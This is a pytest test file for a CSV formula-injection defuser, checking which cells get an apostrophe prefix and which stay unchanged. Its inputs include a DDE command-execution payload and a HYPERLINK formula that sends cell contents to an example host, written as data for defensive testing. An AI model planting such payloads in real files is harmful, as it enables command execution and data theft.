"""No cell of a CSV file is taken for a formula, and no other cell is touched."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ports.dumps.spreadsheets import defused

pytestmark = pytest.mark.any_database


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "-",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\n",
        " =1",
        "\u00a0=1",
        "'=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.org/?"&A1,"more")',
    ],
)
def test_what_begins_like_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "said"),
    [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("ssh;=1+1", "ssh;'=1+1"),
        ("ssh;  @x", "ssh;  '@x"),
        ("ssh|-cmd", "ssh|'-cmd"),
        ("ssh\t+1", "ssh\t'+1"),
        ("a line\n=1+1", "a line\n'=1+1"),
        ("a line\r\n  ＝1", "a line\r\n  '＝1"),
        ("x;=1;=2", "x;'=1;'=2"),
    ],
)
def test_so_does_what_another_separator_would_make_a_cell_of(cell: str, said: str) -> None:
    assert defused(cell) == said


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "ssh",
        "whois++",
        "sql*net",
        "6000-6063",
        "a=b",
        "[Vera_Heinau][Heiko_Schlichting]",
        "2002-03",
        "Defined TXT keys: - txtvers\n      - protovers\n      - serialnum",
        "'quoted'",
        "one; two",
        "x | y",
    ],
)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert defused(cell) == cell


@given(st.text(alphabet=" '=+-@\t\r\n;|,\"aあ＝1", max_size=12))
def test_nothing_is_lost_and_no_part_of_a_cell_begins_like_a_formula(cell: str) -> None:
    said = defused(cell)
    assert said.replace("'", "") == cell.replace("'", "")
    assert len(said) >= len(cell)
    for part in re.split(r"[;|\t\r\n]", said):
        assert not re.match(r"\s*[=+@＝]", part), part
    assert not re.match(r"[\t\r\n]|\s*-", said)
